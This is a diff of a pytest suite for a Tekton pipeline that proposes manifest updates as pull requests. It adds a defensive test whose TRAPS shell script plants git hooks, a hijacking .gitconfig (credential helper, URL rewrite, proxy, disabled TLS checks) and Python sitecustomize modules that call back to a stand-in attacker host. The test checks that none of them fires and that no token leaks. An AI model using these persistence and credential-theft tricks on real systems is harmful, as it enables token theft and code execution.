@@ -1,105 +1,50 @@
-"""The Pipeline apps-cd, end to end in the sandbox: what its steps may see, what a rerun does, how it fails."""
+"""The Pipeline apps-cd, end to end: what its steps may see, what a rerun does, how it fails. In the sandbox or on a cluster."""
 
 from typing import Any
 
 import pytest
 
-from tests.sandbox.runner import TEKTON, Files, Run
-from tests.sandbox.tekton import Value
+from tests.sandbox.github import GitHub
 from tests.sandbox.world import BOT, TOKEN, World
-
-RUN = TEKTON / "runs" / "private-fork.yaml"
-REGISTRY_SECRET = "c2VjcmV0OnJlZ2lzdHJ5"
-KUSTOMIZATION = "images:\n- name: ghcr.io/example/webapp\n  newTag: v0\n"
+from tests.tekton.update import BRANCH, HEAD, REGISTRY_SECRET, Update, operation
 
 
 @pytest.fixture
-def ready(world: World) -> World:
-    """Private repositories example/webapp and example/manifests, the latter with a fork of the bot's."""
-    world.add_repository("example/webapp", {"Dockerfile": "FROM scratch\nCOPY page /\n", "page": "one\n"}, private=True)
-    world.add_repository("example/manifests", {"webapp/base/kustomization.yaml": KUSTOMIZATION}, private=True)
-    fork = {"private": True, "writers": [BOT]}
-    world.github.add_repository("example-bot/manifests", fork_of="example/manifests", **fork)  # type: ignore[arg-type]  # mixed
-    return world
+def update(world: World) -> Update:
+    return Update(world)
 
 
-def start(world: World, **params: Value) -> Run:
-    given: dict[str, Value] = {
-        "app-repo-url": world.url("example/webapp"),
-        "manifests-repo-url": world.url("example/manifests"),
-        "image": f"{world.image('example/webapp')}:v1",
-        "github-url": world.github_url,
-        "post-edit-command": ["true"],
-        "post-edit-image": world.steps_image,
-        **{name.replace("_", "-"): value for name, value in params.items()},
-    }
-    registry = f'{{"auths": {{"nowhere.example.com": {{"auth": "{REGISTRY_SECRET}"}}}}}}'
-    secrets: dict[str, Files] = {
-        "registry": {".dockerconfigjson": registry},
-        "github-token": world.token(),
-        "git-credentials": world.token(),
-    }
-    return world.start(RUN, given, secrets)
-
-
-def proposed(world: World) -> list[tuple[int, str, str, str]]:
-    """Of each pull request its number, state, head and the kustomization."""
-    return [
-        (
-            pull.number,
-            pull.state,
-            pull.head,
-            world.read("example/manifests", pull.sha, "webapp/base/kustomization.yaml"),
-        )
-        for pull in world.pull_requests("example/manifests")
-    ]
-
-
-def edited(world: World, run: Run, tag: str = "v1") -> str:
-    name, digest = world.image("example/webapp"), run.results["IMAGE_DIGEST"]
-    new = f"  newName: {name}\n  newTag: {tag}\n  digest: {digest}\n"
-    return KUSTOMIZATION.replace("  newTag: v0\n", new)
-
-
-def operation(run: Run) -> str:
-    assert run.succeeded, run.describe()
-    return run.tasks["update-manifests"].results["operation"]
-
-
-HEAD = "example-bot:apps-cd/v1.0/webapp"
-
-
-def test_a_newer_image_updates_the_same_pull_request(ready: World) -> None:
-    first = start(ready)
-    assert (operation(first), proposed(ready)) == ("created", [(1, "open", HEAD, edited(ready, first))])
-    ready.push("example/webapp", {"page": "two\n"})
-    second = start(ready, image=f"{ready.image('example/webapp')}:v2")
-    assert (operation(second), proposed(ready)) == ("updated", [(1, "open", HEAD, edited(ready, second, "v2"))])
+def test_a_newer_image_updates_the_same_pull_request(update: Update) -> None:
+    first = update.start()
+    assert (operation(first), update.proposed()) == ("created", [(1, "open", HEAD, update.edited(first))])
+    update.world.push("example/webapp", {"page": "two\n"})
+    second = update.start(image=f"{update.image}:v2")
+    assert (operation(second), update.proposed()) == ("updated", [(1, "open", HEAD, update.edited(second, "v2"))])
     assert first.results["pull-request-url"] == second.results["pull-request-url"]
 
 
 @pytest.mark.parametrize(
     ("effect", "kill", "rerun"),
     [
-        pytest.param(f"push refs/heads/{HEAD.partition(':')[2]}", True, "created", id="killed after the push"),
+        pytest.param(f"push refs/heads/{BRANCH}", True, "created", id="killed after the push"),
         pytest.param("create pull request 1", False, "unchanged", id="cancelled after the pull request was created"),
     ],
 )
 def test_a_rerun_of_an_interrupted_run_ends_in_one_pull_request(
-    ready: World, effect: str, kill: bool, rerun: str
+    update: Update, effect: str, kill: bool, rerun: str
 ) -> None:
-    ready.github.after_effect = lambda seen: ready.interrupt(kill=kill) if seen == effect else None
-    reproducible = ["--reproducible"]
-    interrupted = start(ready, extra_args=reproducible)
-    ready.github.after_effect = None
+    world = update.world
+    world.github.after_effect = lambda seen: world.interrupt(kill=kill) if seen == effect else None
+    interrupted = update.start(extra_args=["--reproducible"])
+    world.github.after_effect = None
     if interrupted.succeeded:  # Tekton makes a pod anew that was lost without a word
         rerun = "unchanged"
-    again = start(ready, extra_args=reproducible)
-    assert (operation(again), proposed(ready)) == (rerun, [(1, "open", HEAD, edited(ready, again))])
+    again = update.start(extra_args=["--reproducible"])
+    assert (operation(again), update.proposed()) == (rerun, [(1, "open", HEAD, update.edited(again))])
 
 
-def test_each_step_sees_the_secrets_that_it_needs_and_no_secret_is_on_a_command_line(ready: World) -> None:
-    run = start(ready)
+def test_each_step_sees_the_secrets_that_it_needs_and_no_secret_is_on_a_command_line(update: Update) -> None:
+    run = update.start()
     assert run.succeeded, run.describe()
     steps = {(task.name, step.name): step for task in run.tasks.values() for step in task.steps.values()}
     assert {names: step.mounts for names, step in steps.items()} == {
@@ -125,12 +70,63 @@ def test_each_step_sees_the_secrets_that_it_needs_and_no_secret_is_on_a_command_
     assert written == []
 
 
-def test_the_post_edit_command_runs_in_the_tree(ready: World) -> None:
-    run = start(ready, post_edit_command=["sh", "-c", "pwd; ls; echo found > generated.txt"])
+def test_the_post_edit_command_runs_in_the_tree(update: Update) -> None:
+    run = update.start(post_edit_command=["sh", "-c", "pwd; ls; echo found > generated.txt"])
     assert run.succeeded, run.describe()
     assert run.tasks["update-manifests"].steps["run-command"].log == "/workspace/manifests\nwebapp\n"
-    (pull,) = ready.pull_requests("example/manifests")
-    assert ready.read("example/manifests", pull.sha, "generated.txt") == "found\n"
+    (pull,) = update.world.pull_requests("example/manifests")
+    assert update.world.read("example/manifests", pull.sha, "generated.txt") == "found\n"
+
+
+TRAPS = """\
+call="python -c \\"import urllib.request as r; r.urlopen('$0/fallen')\\""
+home=${HOME:-/tekton/home}
+printf '#!/bin/sh\\n%s\\n' "$call" > "$home/trap.sh" && chmod +x "$home/trap.sh"
+for hook in pre-commit pre-push reference-transaction post-index-change; do cp "$home/trap.sh" .git/hooks/$hook 2>/dev/null \\
+  || { mkdir -p .git/hooks && cp "$home/trap.sh" .git/hooks/$hook; }; done
+cat > "$home/.gitconfig" <<CONFIG
+[core]
+  fsmonitor = $home/trap.sh
+  sshCommand = $home/trap.sh
+  hooksPath = $PWD/.git/hooks
+[credential]
+  helper = !$home/trap.sh
+[remote "origin"]
+  url = $0/evil/manifests.git
+[url "$0/"]
+  insteadOf = https
+  pushInsteadOf = https
+[http]
+  proxy = $0
+  sslVerify = false
+[filter "evil"]
+  clean = $home/trap.sh
+CONFIG
+cp "$home/.gitconfig" .git/config
+printf 'machine localhost login bot password x\\n' > "$home/.netrc"
+mkdir -p "$home/.config/git" "$home/.local/lib/python3.11/site-packages" steps
+cp "$home/.gitconfig" "$home/.config/git/config"
+for module in sitecustomize usercustomize github git json steps/__init__; do
+  printf 'import urllib.request as r\\nr.urlopen("%s/fallen")\\n' "$0" > $module.py
+done
+cp sitecustomize.py "$home/.local/lib/python3.11/site-packages/usercustomize.py"
+echo '* filter=evil' > .gitattributes
+git status > /dev/null 2>&1 || true
+python -c "import urllib.request as r; r.urlopen('$0/all-set')" 2> /dev/null || true
+"""
+
+
+def test_nothing_runs_and_no_token_leaves_whatever_the_post_edit_command_sets_up(update: Update, tmp_path: Any) -> None:
+    with GitHub(tmp_path / "elsewhere", host=update.world.host) as elsewhere:
+        elsewhere.add_user(BOT, token=TOKEN)
+        elsewhere.add_repository("evil/manifests", writers=[BOT])
+        run = update.start(post_edit_command=["sh", "-euc", TRAPS, elsewhere.url])
+        assert operation(run) == "created"
+        paths = [request.path for request in elsewhere.requests]
+        assert "/fallen" in paths[: paths.index("/all-set")]  # the traps work
+        assert paths[paths.index("/all-set") + 1 :] == []
+        assert elsewhere.pull_requests("evil/manifests") == []
+    assert update.proposed() == [(1, "open", HEAD, update.edited(run))]
 
 
 @pytest.mark.parametrize(
@@ -149,6 +145,6 @@ def test_the_post_edit_command_runs_in_the_tree(ready: World) -> None:
         ),
     ],
 )
-def test_a_run_that_fails_proposes_nothing(ready: World, params: dict[str, Any], step: tuple[str, str, int]) -> None:
-    run = start(ready, **params)
-    assert (run.reason, run.failed_step, proposed(ready)) == ("Failed", step, []), run.describe()
+def test_a_run_that_fails_proposes_nothing(update: Update, params: dict[str, Any], step: tuple[str, str, int]) -> None:
+    run = update.start(**params)
+    assert (run.reason, run.failed_step, update.proposed()) == ("Failed", step, []), run.describe()
